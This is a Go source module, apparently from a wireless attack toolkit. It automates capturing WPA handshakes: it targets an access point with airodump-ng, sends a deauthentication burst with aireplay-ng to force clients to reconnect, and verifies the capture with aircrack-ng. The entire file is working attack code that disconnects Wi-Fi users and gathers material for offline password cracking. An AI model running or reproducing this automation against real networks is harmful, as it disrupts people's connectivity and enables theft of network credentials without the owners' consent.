// Package handshake captures WPA handshakes by pairing a targeted capture
// with a short deauthentication burst.
package handshake

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"go.opentelemetry.io/otel/attribute"

	"github.com/lcalzada-xor/netraptor/internal/adapters/parser"
	"github.com/lcalzada-xor/netraptor/internal/core/domain"
	"github.com/lcalzada-xor/netraptor/internal/core/ports"
	"github.com/lcalzada-xor/netraptor/internal/telemetry"
)

const (
	settleDelay    = 5 * time.Second
	burstPackets   = 5
	burstTimeout   = 10 * time.Second
	tailOffset     = 15 * time.Second
	verifyTimeout  = 60 * time.Second
	artifactLayout = "20060102_150405"
)

// Capturer implements ports.HandshakeCapturer.
type Capturer struct {
	runner   ports.CommandRunner
	channels ports.ChannelSetter
	tracker  ports.ResourceTracker
	progress ports.ProgressReporter
	logger   *slog.Logger

	Airodump string
	Aireplay string
	Aircrack string

	now   func() time.Time
	sleep func(ctx context.Context, d time.Duration) error
}

var _ ports.HandshakeCapturer = (*Capturer)(nil)

func NewCapturer(runner ports.CommandRunner, channels ports.ChannelSetter, tracker ports.ResourceTracker, progress ports.ProgressReporter, logger *slog.Logger) *Capturer {
	return &Capturer{
		runner:   runner,
		channels: channels,
		tracker:  tracker,
		progress: progress,
		logger:   logger,
		Airodump: "airodump-ng",
		Aireplay: "aireplay-ng",
		Aircrack: "aircrack-ng",
		now:      time.Now,
		sleep:    sleepCtx,
	}
}

// ArtifactBase returns the capture prefix for a target at t.
func ArtifactBase(dir, bssid string, t time.Time) string {
	return filepath.Join(dir, fmt.Sprintf("handshake_%s_%s", domain.CompactBSSID(bssid), t.Format(artifactLayout)))
}

// Capture runs: capture start, 5s settle, 5-packet deauth burst, the rest
// of the window (timeout minus 15s), stop, verify. The artifact is returned
// only when the verification tool reports a handshake.
func (c *Capturer) Capture(ctx context.Context, cfg domain.HandshakeConfig) (*domain.CaptureArtifact, error) {
	bssid, err := domain.NormalizeBSSID(cfg.TargetBSSID)
	if err != nil {
		return nil, fmt.Errorf("%w: %s", err, cfg.TargetBSSID)
	}
	if cfg.Channel <= 0 {
		return nil, domain.ErrChannelRequired
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = domain.HandshakeTimeout
	}

	ctx, span := telemetry.Tracer().Start(ctx, "handshake")
	span.SetAttributes(attribute.String("bssid", bssid), attribute.Int("channel", cfg.Channel))
	defer span.End()

	artifact, err := c.capture(ctx, bssid, cfg)
	telemetry.AttacksTotal.WithLabelValues("handshake", telemetry.Outcome(err == nil)).Inc()
	if err != nil {
		span.RecordError(err)
	}
	return artifact, err
}

func (c *Capturer) capture(ctx context.Context, bssid string, cfg domain.HandshakeConfig) (*domain.CaptureArtifact, error) {
	if err := c.channels.SetChannel(ctx, cfg.Interface, cfg.Channel); err != nil {
		c.logger.Warn("could not set channel", "iface", cfg.Interface, "channel", cfg.Channel, "error", err)
	}

	started := c.now()
	base := ArtifactBase(cfg.OutputDir, bssid, started)
	capFile := base + "-01.cap"
	c.tracker.TrackTemp(base+"-01.csv", base+"-01.kismet.csv", base+"-01.kismet.netxml", base+"-01.log.csv")

	proc, err := c.runner.Start(ctx, ports.Command{
		Name: c.Airodump,
		Args: []string{"-c", strconv.Itoa(cfg.Channel), "--bssid", bssid, "-w", base, cfg.Interface},
	})
	if err != nil {
		return nil, fmt.Errorf("start capture: %w", err)
	}
	c.tracker.SetActive(proc)
	defer c.tracker.ClearActive(proc)

	c.report("capture started", started, cfg.Timeout)
	if err := c.sleep(ctx, settleDelay); err != nil {
		_ = proc.Terminate()
		return nil, err
	}

	c.report("sending deauthentication burst", started, cfg.Timeout)
	c.burst(ctx, bssid, cfg.Interface)

	if err := c.sleep(ctx, max(0, cfg.Timeout-tailOffset)); err != nil {
		_ = proc.Terminate()
		return nil, err
	}
	if err := proc.Terminate(); err != nil {
		c.logger.Warn("failed to stop capture", "error", err)
	}

	if _, err := os.Stat(capFile); err != nil {
		return nil, fmt.Errorf("%w: %s", domain.ErrCaptureMissing, capFile)
	}

	c.report("verifying capture", started, cfg.Timeout)
	ok, err := c.verify(ctx, capFile)
	if err != nil {
		return nil, err
	}
	if !ok {
		c.logger.Warn("no handshake captured", "bssid", bssid, "file", capFile)
		return nil, domain.ErrNoHandshake
	}

	frames, err := CountEAPOLKeys(capFile)
	if err != nil {
		c.logger.Debug("could not inspect capture", "file", capFile, "error", err)
	}
	c.logger.Info("handshake captured", "bssid", bssid, "file", capFile, "eapol_frames", frames)
	return &domain.CaptureArtifact{
		BSSID:       bssid,
		File:        capFile,
		Timestamp:   started,
		EAPOLFrames: frames,
	}, nil
}

func (c *Capturer) burst(ctx context.Context, bssid, iface string) {
	res, err := c.runner.Run(ctx, ports.Command{
		Name:    c.Aireplay,
		Args:    []string{"--deauth", strconv.Itoa(burstPackets), "-a", bssid, iface},
		Timeout: burstTimeout,
	})
	if err != nil || !res.Success() {
		c.logger.Warn("deauthentication burst failed", "bssid", bssid, "error", err, "output", res.Combined())
	}
}

func (c *Capturer) verify(ctx context.Context, capFile string) (bool, error) {
	res, err := c.runner.Run(ctx, ports.Command{Name: c.Aircrack, Args: []string{capFile}, Timeout: verifyTimeout})
	if err != nil && !errors.Is(err, domain.ErrTimeout) {
		return false, fmt.Errorf("verify capture: %w", err)
	}
	return parser.HandshakePresent(res.Combined()), nil
}

func (c *Capturer) report(msg string, started time.Time, total time.Duration) {
	c.progress.Report(domain.ProgressEvent{
		Operation: "handshake",
		Message:   msg,
		Elapsed:   c.now().Sub(started),
		Total:     total,
		Timestamp: c.now(),
	})
}

func sleepCtx(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}
